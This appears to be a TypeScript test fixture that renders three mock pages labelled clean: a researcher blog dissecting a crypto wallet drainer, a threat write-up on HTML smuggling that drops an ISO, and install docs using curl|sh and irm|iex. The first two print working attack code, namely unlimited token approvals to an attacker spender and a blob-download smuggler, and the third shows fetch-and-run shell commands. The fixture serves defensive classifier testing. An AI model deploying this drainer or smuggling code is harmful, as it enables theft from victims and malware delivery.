import { type Entry } from '../entry.js';
import { css, dotIcon, esc, logos, shell } from '../parts/yt-kit.js';

/** Threat advisories, provider bulletins, researcher write-ups and IT help pages that quote commands, drainer code and phishing text; plus a real settlement claim site and install docs that pipe to a shell. */


const drainerBlog = shell({
  title: 'Anatomy of a retiree-targeted wallet drainer',
  css: css.article,
  body: `<header><b>Chainsight Research</b><span>Blog</span></header>
<article><h1>Anatomy of a retiree-targeted wallet drainer</h1><p class="byline">By M. Okafor · 9 min read</p>
<p>Over the past month we tracked Facebook ads promising "retirement crypto bonuses" to users over 60. The landing pages ask victims to connect a wallet and then request a series of signatures. Here is the core loop, lightly cleaned up:</p>
<pre>${esc(`for (const token of TOKENS) {
  await ethereum.request({ method: 'eth_sendTransaction', params: [{
    from: acc, to: token,
    data: '0x095ea7b3' + pad(SPENDER) + 'f'.repeat(64) // approve(spender, MAX_UINT256)
  }]});
}
for (const nft of NFTS) {
  // setApprovalForAll(operator, true)
  await ethereum.request({ method: 'eth_sendTransaction', params: [{ from: acc, to: nft, data: '0xa22cb465' + pad(SPENDER) + '0'.repeat(63) + '1' }]});
}`)}</pre>
<p>A second variant skips on-chain approvals and asks for an off-chain <code>eth_signTypedData_v4</code> <b>Permit</b> signature for USDC with <code>value = 2^256 - 1</code> and <code>deadline = 9999999999</code>, which the operator later submits.</p>
<h2>How to protect yourself</h2><ul><li>Never approve unlimited allowances for sites you reached from an ad.</li><li>Review and revoke approvals with a tool such as revoke.cash.</li><li>No legitimate program will ask for your recovery phrase.</li></ul></article>
<footer>Chainsight Research · Not financial advice.</footer>`,
});

const smugglingPost = shell({
  title: 'HTML smuggling in EOB-themed lures: how the ISO gets past the gateway',
  css: css.article,
  body: `<header><b>Blue Harbor Security Blog</b><span>Threat Research</span></header>
<article><h1>HTML smuggling in EOB-themed lures</h1><p class="byline">By R. Iyer · Threat Research · 7 min read</p>
<p>Email gateways scan attachments, so attackers attach an HTML file — or link to a page — that builds the payload inside the browser. We analysed a campaign that poses as an "Explanation of Benefits" viewer and drops an ISO containing a shortcut.</p>
<pre>${esc(`var p = [ /* ~64 KB of base64 chunks */ ];
var bin = atob(p.join('')), u8 = new Uint8Array(bin.length);
for (var i = 0; i < bin.length; i++) u8[i] = bin.charCodeAt(i);
var a = document.createElement('a');
a.href = URL.createObjectURL(new Blob([u8]));
a.download = 'EOB_Statement_Nov2025.iso';
a.click();`)}</pre>
<p>Inside the ISO, <code>EOB_Statement_Nov2025.pdf.lnk</code> runs <code>rundll32</code> against a DLL shipped alongside it. Since Windows 11 22H2, ISO contents carry Mark-of-the-Web, but many users still click through.</p>
<h2>Detection ideas</h2><ul><li>Proxy: flag <code>blob:</code> downloads with ISO/IMG/VHD extensions.</li><li>EDR: alert on <code>explorer.exe</code> mounting ISOs followed by LNK execution.</li></ul></article>
<footer>Blue Harbor Security</footer>`,
});

const cliDocs = shell({
  title: 'Install — fhirctl documentation',
  css: `body{margin:0;font-family:-apple-system,Segoe UI,Arial;color:#1f2328;display:flex}aside.nav{width:240px;background:#f6f8fa;min-height:100vh;padding:20px;box-sizing:border-box;font-size:14px}aside.nav a{display:block;color:#0969da;margin:6px 0;text-decoration:none}
main{max-width:780px;padding:30px 40px}pre{background:#0d1117;color:#e6edf3;padding:14px;border-radius:6px;overflow:auto;position:relative}.copy{position:absolute;right:8px;top:8px;font-size:12px;background:#30363d;color:#fff;border:0;border-radius:4px;padding:3px 8px;cursor:pointer}`,
  body: `<aside class="nav"><b>fhirctl</b><a href="/docs/">Introduction</a><a href="/docs/install/">Install</a><a href="/docs/auth/">Authenticating to a FHIR server</a><a href="/docs/bulk-export/">Bulk $export</a><a href="https://github.com/fhirctl/fhirctl">GitHub</a></aside>
<main><h1>Install fhirctl</h1><p>fhirctl is an open-source command-line client for HL7® FHIR® R4 servers: search resources, run Bulk Data <code>$export</code>, validate bundles.</p>
<h2>Windows (PowerShell)</h2><pre><button class="copy" data-c="w">Copy</button><code id="w">irm https://fhirctl.dev/install.ps1 | iex</code></pre>
<h2>macOS / Linux</h2><pre><button class="copy" data-c="u">Copy</button><code id="u">curl -fsSL https://fhirctl.dev/install.sh | sh</code></pre>
<p>Prefer not to pipe to a shell? Download a signed release from <a href="https://github.com/fhirctl/fhirctl/releases">GitHub Releases</a> and verify the SHA-256 checksum, or use <code>winget install fhirctl.fhirctl</code> / <code>brew install fhirctl</code>.</p>
<h2>Verify</h2><pre><code>fhirctl version
fhirctl --server https://hapi.fhir.org/baseR4 search Patient --count 1</code></pre></main>
<script>document.querySelectorAll('.copy').forEach(function(b){b.onclick=function(){navigator.clipboard.writeText(document.getElementById(b.dataset.c).textContent);b.textContent='Copied';};});</script>`,
});

export const entries: Entry[] = [
{
  id: 'yt-clean-drainer-anatomy-blog',
  label: 'clean',
  kind: 'security-research-post',
  url: 'https://chainsight.io/blog/retiree-targeted-wallet-drainer-anatomy',
  body: drainerBlog,
},
{
  id: 'yt-clean-html-smuggling-eob-writeup',
  label: 'clean',
  kind: 'security-research-post',
  url: 'https://blog.blueharborsec.com/2025/11/html-smuggling-eob-iso-lures',
  body: smugglingPost,
},
{
  id: 'yt-clean-fhirctl-install-docs',
  label: 'clean',
  kind: 'software-install-docs',
  url: 'https://fhirctl.dev/docs/install/',
  body: cliDocs,
},
];
